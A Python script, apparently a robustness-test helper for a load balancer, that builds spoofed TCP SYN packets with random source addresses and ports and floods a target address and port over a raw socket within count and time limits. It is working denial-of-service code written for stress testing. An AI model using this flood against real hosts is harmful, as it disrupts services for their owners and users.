"""A SYN flood for ferrolb's robustness test (tests/e2e_robust.rs).

Spoofed TCP SYNs from random sources in 203.0.113.0/24 (random ports) to
VIP:PORT, sent as fast as one process can from a raw AF_PACKET socket, at
most COUNT frames and SECONDS seconds. Prints one JSON object: frames sent,
refused by the local kernel, and the time taken.

Usage: synflood.py IFACE DST_MAC VIP PORT COUNT SECONDS
"""

import json
import random
import socket
import struct
import sys
import time

IFACE, DST_MAC, VIP, PORT, COUNT, SECONDS = sys.argv[1:7]
PORT, COUNT, SECONDS = int(PORT), int(COUNT), float(SECONDS)
DST = bytes.fromhex(DST_MAC.replace(":", ""))
SRC = bytes.fromhex("020000006602")
V4 = socket.inet_aton(VIP)


def csum(b):
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def syn(src, sport, seq):
    t = struct.pack("!HHIIBBHHH", sport, PORT, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    c = csum(src + V4 + struct.pack("!xBH", 6, 20) + t)
    t = t[:16] + struct.pack("!H", c) + t[18:]
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, seq & 0xFFFF, 0, 64, 6, 0, src, V4)
    h = h[:10] + struct.pack("!H", csum(h)) + h[12:]
    return DST + SRC + b"\x08\x00" + h + t


rnd = random.Random(20261122)
# 65536 distinct flows (source address x port), built before the clock starts.
frames = []
seen = set()
while len(frames) < 65536:
    a, p = rnd.randrange(1, 255), rnd.randrange(1024, 65536)
    if (a, p) in seen:
        continue
    seen.add((a, p))
    frames.append(syn(bytes([203, 0, 113, a]), p, rnd.getrandbits(32)))

s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
s.bind((IFACE, 0))
s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
send = s.send
sent = refused = 0
t0 = time.perf_counter()
end = t0 + SECONDS
i = 0
while i < COUNT:
    try:
        send(frames[i & 0xFFFF])
        sent += 1
    except OSError:
        refused += 1
    i += 1
    if i & 4095 == 0 and time.perf_counter() > end:
        break
took = time.perf_counter() - t0
print(json.dumps({"sent": sent, "refused": refused, "seconds": took}))
